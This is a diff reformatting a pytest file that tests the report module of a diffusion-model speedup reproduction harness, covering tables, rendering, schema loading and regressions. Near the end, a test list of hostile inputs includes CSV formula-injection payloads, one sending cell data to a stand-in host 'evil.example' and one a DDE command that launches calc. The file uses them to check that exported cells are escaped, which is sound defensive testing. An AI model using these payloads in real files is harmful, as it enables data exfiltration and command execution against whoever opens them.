@@ -18,17 +18,38 @@ SCHEMA = "flexiffusion-repro/results@1"
 DIGITS = ("fid:digits-cnn", "rfid:digits-cnn", "acc:digits-cnn")
 
 
-def _row(experiment, name, kind, method, schedule, predicted, measured, metrics,
-         budget=None, fitness=None, published=None):
+def _row(
+    experiment,
+    name,
+    kind,
+    method,
+    schedule,
+    predicted,
+    measured,
+    metrics,
+    budget=None,
+    fitness=None,
+    published=None,
+):
     return {
-        "experiment": experiment, "model": experiment, "steps": 20, "guidance": None,
-        "name": name, "kind": kind, "method": method, "budget": budget, "schedule": schedule,
-        "predicted_speedup": predicted, "measured_speedup": measured,
+        "experiment": experiment,
+        "model": experiment,
+        "steps": 20,
+        "guidance": None,
+        "name": name,
+        "kind": kind,
+        "method": method,
+        "budget": budget,
+        "schedule": schedule,
+        "predicted_speedup": predicted,
+        "measured_speedup": measured,
         "latency": {"median_s": 0.1, "batch": 64, "device": "cpu", "dtype": "float32"},
-        "search": None if fitness is None else {"protocol": "rfid:digits-cnn",
-                                                "fitness": fitness, "n": 64, "scored": 12},
+        "search": None
+        if fitness is None
+        else {"protocol": "rfid:digits-cnn", "fitness": fitness, "n": 64, "scored": 12},
         "metrics": metrics,
-        "published": published, "grid": None,
+        "published": published,
+        "grid": None,
     }
 
 
@@ -39,23 +60,77 @@ def _digits(fid, rfid, acc):
 def _results(run_id="smoke-1"):
     teacher = "F F F F | F F F F"
     rows = [
-        _row("digits-ddpm", "teacher", "teacher", "teacher", teacher, 1.0, 1.0,
-             _digits(38.0, 0.0, 0.99)),
-        _row("digits-ddpm", "segment @2x", "searched", "segment-evolution",
-             "F P0 N N | F P2 N N", 2.05, 1.93, _digits(41.2, 11.8, 0.97), budget=2.0,
-             fitness=12.3),
-        _row("digits-ddpm", "DeepCache N=2", "baseline", "deepcache", "F P0 | F P0 | F P0 | F P0",
-             1.8, 1.7, _digits(45.0, 15.0, 0.95)),
-        _row("digits-ddpm", "DDIM 8", "baseline", "fewer-steps", "F N F N | F N F N",
-             2.0, None, _digits(60.0, 30.0, 0.90), budget=2.0),
-        _row("sd15", "teacher", "teacher", "teacher", "F F F F", 1.0, 1.0,
-             {"clip:ViT-g-14/laion2b_s34b_b88k": 31.5}),
-        _row("sd15", "DeepCache N=5", "baseline", "deepcache", "F P0 P0 P0", 2.3, 2.1,
-             {"clip:ViT-g-14/laion2b_s34b_b88k": 31.0},
-             published={"speedup": 2.15, "clip": 30.9, "fid": 11.5, "source": "DeepCache T2"}),
+        _row(
+            "digits-ddpm",
+            "teacher",
+            "teacher",
+            "teacher",
+            teacher,
+            1.0,
+            1.0,
+            _digits(38.0, 0.0, 0.99),
+        ),
+        _row(
+            "digits-ddpm",
+            "segment @2x",
+            "searched",
+            "segment-evolution",
+            "F P0 N N | F P2 N N",
+            2.05,
+            1.93,
+            _digits(41.2, 11.8, 0.97),
+            budget=2.0,
+            fitness=12.3,
+        ),
+        _row(
+            "digits-ddpm",
+            "DeepCache N=2",
+            "baseline",
+            "deepcache",
+            "F P0 | F P0 | F P0 | F P0",
+            1.8,
+            1.7,
+            _digits(45.0, 15.0, 0.95),
+        ),
+        _row(
+            "digits-ddpm",
+            "DDIM 8",
+            "baseline",
+            "fewer-steps",
+            "F N F N | F N F N",
+            2.0,
+            None,
+            _digits(60.0, 30.0, 0.90),
+            budget=2.0,
+        ),
+        _row(
+            "sd15",
+            "teacher",
+            "teacher",
+            "teacher",
+            "F F F F",
+            1.0,
+            1.0,
+            {"clip:ViT-g-14/laion2b_s34b_b88k": 31.5},
+        ),
+        _row(
+            "sd15",
+            "DeepCache N=5",
+            "baseline",
+            "deepcache",
+            "F P0 P0 P0",
+            2.3,
+            2.1,
+            {"clip:ViT-g-14/laion2b_s34b_b88k": 31.0},
+            published={"speedup": 2.15, "clip": 30.9, "fid": 11.5, "source": "DeepCache T2"},
+        ),
     ]
-    return {"schema": SCHEMA, "run_id": run_id, "suite": {"name": "smoke", "version": 1},
-            "rows": rows}
+    return {
+        "schema": SCHEMA,
+        "run_id": run_id,
+        "suite": {"name": "smoke", "version": 1},
+        "rows": rows,
+    }
 
 
 def _write_run(directory, results):
@@ -68,10 +143,23 @@ def test_table_columns_and_values():
     df = report.table(_results())
     clip = "clip:ViT-g-14/laion2b_s34b_b88k"
     assert list(df.columns) == [
-        "experiment", "name", "kind", "budget", "predicted speedup", "measured speedup",
-        "published speedup", "fid:digits-cnn", "published fid", "rfid:digits-cnn",
-        "acc:digits-cnn", clip, "published clip",
-        "search fitness", "source", "schedule"]
+        "experiment",
+        "name",
+        "kind",
+        "budget",
+        "predicted speedup",
+        "measured speedup",
+        "published speedup",
+        "fid:digits-cnn",
+        "published fid",
+        "rfid:digits-cnn",
+        "acc:digits-cnn",
+        clip,
+        "published clip",
+        "search fitness",
+        "source",
+        "schedule",
+    ]
     assert len(df) == 6
     searched = df.iloc[1]
     assert searched["name"] == "segment @2x" and searched["kind"] == "searched"
@@ -87,12 +175,19 @@ def test_table_columns_and_values():
 
 def test_table_shows_work_throughput_and_memory_where_rows_have_them():
     results = _results()
-    results["rows"][0] = {**results["rows"][0], "computed": {"calls": 10, "work": 10.0},
-                          "latency": {"median_s": 0.5, "images_per_s": 8.0,
-                                      "host_memory_mb": 12.5}}
+    results["rows"][0] = {
+        **results["rows"][0],
+        "computed": {"calls": 10, "work": 10.0},
+        "latency": {"median_s": 0.5, "images_per_s": 8.0, "host_memory_mb": 12.5},
+    }
     df = report.table(results)
-    assert list(df.columns)[4:9] == ["predicted speedup", "measured speedup", "work",
-                                     "images/s", "host MB"]
+    assert list(df.columns)[4:9] == [
+        "predicted speedup",
+        "measured speedup",
+        "work",
+        "images/s",
+        "host MB",
+    ]
     assert df.iloc[0][["work", "images/s", "host MB"]].tolist() == [10.0, 8.0, 12.5]
     assert df["work"].isna().sum() == 5
 
@@ -131,12 +226,25 @@ def test_render_formats_parse_back():
 
 
 def test_display_cells_give_unit_interval_fidelity_three_decimals():
-    df = pd.DataFrame({"fid:digits-cnn": [12.3456], "acc:digits-cnn": [0.91234],
-                       "ssim": [0.98765], "lpips:alex": [0.01234], "schedule": ["F F"],
-                       "psnr": [float("nan")]})
+    df = pd.DataFrame(
+        {
+            "fid:digits-cnn": [12.3456],
+            "acc:digits-cnn": [0.91234],
+            "ssim": [0.98765],
+            "lpips:alex": [0.01234],
+            "schedule": ["F F"],
+            "psnr": [float("nan")],
+        }
+    )
     cells = report.display_cells(df).iloc[0].to_dict()
-    assert cells == {"fid:digits-cnn": "12.35", "acc:digits-cnn": "0.912", "ssim": "0.988",
-                     "lpips:alex": "0.012", "schedule": "F F", "psnr": ""}
+    assert cells == {
+        "fid:digits-cnn": "12.35",
+        "acc:digits-cnn": "0.912",
+        "ssim": "0.988",
+        "lpips:alex": "0.012",
+        "schedule": "F F",
+        "psnr": "",
+    }
 
 
 def test_render_unknown_format():
@@ -153,8 +261,19 @@ def _regressed():
     rows[2]["schedule"] = "F P1 | F P1 | F P1 | F P1"  # same name, new schedule
     rows[2]["metrics"]["fid:digits-cnn"] = 44.0  # fid down: better
     del rows[3]  # DDIM 8 only in old
-    rows.append(_row("digits-ddpm", "random @2x", "searched", "segment-random",
-                     "F N P0 N | F N P0 N", 2.0, 1.9, _digits(50.0, 20.0, 0.93), budget=2.0))
+    rows.append(
+        _row(
+            "digits-ddpm",
+            "random @2x",
+            "searched",
+            "segment-random",
+            "F N P0 N | F N P0 N",
+            2.0,
+            1.9,
+            _digits(50.0, 20.0, 0.93),
+            budget=2.0,
+        )
+    )
     return new
 
 
@@ -237,23 +356,32 @@ def test_sample_grid_layout(tmp_path):
 def _markdown_rows(text: str) -> list[dict]:
     """A markdown table read back by hand: one dict per body line, keyed by the header."""
     lines = [line for line in text.splitlines() if line.startswith("|")]
-    split = [[cell.strip() for cell in line.replace(r"\|", "\0").strip("|").split("|")]
-             for line in lines]
+    split = [
+        [cell.strip() for cell in line.replace(r"\|", "\0").strip("|").split("|")] for line in lines
+    ]
     header, body = split[0], split[2:]  # the second line is the rule
-    return [{key: cell.replace("\0", "|") for key, cell in zip(header, row, strict=True)}
-            for row in body]
+    return [
+        {key: cell.replace("\0", "|") for key, cell in zip(header, row, strict=True)}
+        for row in body
+    ]
 
 
 def _assert_is_the_results_table(markdown: str):
     """The rows of ``_results()`` in order, with the values written there."""
     rows = _markdown_rows(markdown)
     assert [(r["experiment"], r["name"]) for r in rows] == [
-        ("digits-ddpm", "teacher"), ("digits-ddpm", "segment @2x"),
-        ("digits-ddpm", "DeepCache N=2"), ("digits-ddpm", "DDIM 8"), ("sd15", "teacher"),
-        ("sd15", "DeepCache N=5")]
+        ("digits-ddpm", "teacher"),
+        ("digits-ddpm", "segment @2x"),
+        ("digits-ddpm", "DeepCache N=2"),
+        ("digits-ddpm", "DDIM 8"),
+        ("sd15", "teacher"),
+        ("sd15", "DeepCache N=5"),
+    ]
     assert [float(r["fid:digits-cnn"]) for r in rows[:4]] == [38.0, 41.2, 45.0, 60.0]
-    assert [r["schedule"] for r in rows[1:3]] == ["F P0 N N | F P2 N N",
-                                                  "F P0 | F P0 | F P0 | F P0"]
+    assert [r["schedule"] for r in rows[1:3]] == [
+        "F P0 N N | F P2 N N",
+        "F P0 | F P0 | F P0 | F P0",
+    ]
     assert float(rows[5]["published speedup"]) == 2.15 and rows[5]["source"] == "DeepCache T2"
 
 
@@ -280,8 +408,11 @@ def test_load_results(tmp_path):
     with pytest.raises(report.ReportError, match=r"bad[/\\]results\.json: schema 'other@1'"):
         report.load_results(bad)
     newer = _write_run(tmp_path / "newer", {**_results(), "schema": "flexiffusion-repro/results@2"})
-    with pytest.raises(report.ReportError, match=r"schema flexiffusion-repro/results@2 is not "
-                                                 r"one this harness reads \(.*@1 and earlier\)"):
+    with pytest.raises(
+        report.ReportError,
+        match=r"schema flexiffusion-repro/results@2 is not "
+        r"one this harness reads \(.*@1 and earlier\)",
+    ):
         report.load_results(newer)  # a newer format is refused, never misread
     bad.write_text("{not json")
     with pytest.raises(report.ReportError, match=r"results\.json: not valid JSON"):
@@ -297,14 +428,21 @@ def test_results_are_read_through_the_typed_schema(tmp_path):
     assert loaded.rows[1].metrics == results["rows"][1]["metrics"]
     assert loaded.of_experiment("sd15")[0].name == "teacher"
     written = loaded.to_json()
-    assert written["schema"] == SCHEMA and [
-        {k: r[k] for k in row} for r, row in zip(written["rows"], results["rows"], strict=True)
-    ] == results["rows"]
+    assert (
+        written["schema"] == SCHEMA
+        and [
+            {k: r[k] for k in row} for r, row in zip(written["rows"], results["rows"], strict=True)
+        ]
+        == results["rows"]
+    )
     assert "Infinity" in json.dumps(written)  # not null, as pydantic's JSON mode would write
     typo = {**results, "rows": [{**results["rows"][0], "predicted_speedup": "fast"}]}
-    with pytest.raises(report.ReportError, match=r"typo[/\\]results\.json: field "
-                                                 r"rows\[0\]\.predicted_speedup: input should "
-                                                 r"be a valid number"):
+    with pytest.raises(
+        report.ReportError,
+        match=r"typo[/\\]results\.json: field "
+        r"rows\[0\]\.predicted_speedup: input should "
+        r"be a valid number",
+    ):
         report.load_results(_write_run(tmp_path / "typo", typo))
     extra = {**results, "rows": [{**results["rows"][0], "lpips": 0.1}]}
     with pytest.raises(report.ReportError, match=r"field rows\[0\]\.lpips: unknown field"):
@@ -344,9 +482,17 @@ def test_a_long_f_n_schedule_shows_as_its_full_steps():
     assert short in render(pd.DataFrame({"schedule": ["F P0 | F N"]}), "md")
 
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
-           "-2+3", "@SUM(1+1)", "\tTAB=1", "\rCR=1", "two\nlines | and a bar", "ok\r\nCRLF",
-           "line\u2028separator"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tTAB=1",
+    "\rCR=1",
+    "two\nlines | and a bar",
+    "ok\r\nCRLF",
+    "line\u2028separator",
+]
 
 
 def _hostile_results():
@@ -365,13 +511,18 @@ def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
     for raw, cell in zip(HOSTILE, names, strict=True):
         assert cell == ("'" + raw if raw[0] in "=+-@\t\r" else raw)
     assert csv["experiment"][0] == "'=1+1"
-    assert not any(str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
-                   for column in csv.columns if csv[column].dtype == object
-                   for cell in csv[column])
+    assert not any(
+        str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
+        for column in csv.columns
+        if csv[column].dtype == object
+        for cell in csv[column]
+    )
     results = _hostile_results()
     results["rows"][1]["measured_speedup"] = -1.5
-    assert pd.read_csv(io.StringIO(report.render(report.table(results), "csv")))[
-        "measured speedup"][1] == -1.5
+    assert (
+        pd.read_csv(io.StringIO(report.render(report.table(results), "csv")))["measured speedup"][1]
+        == -1.5
+    )
 
 
 def test_markdown_and_tex_keep_one_line_per_row_for_hostile_names(tmp_path):
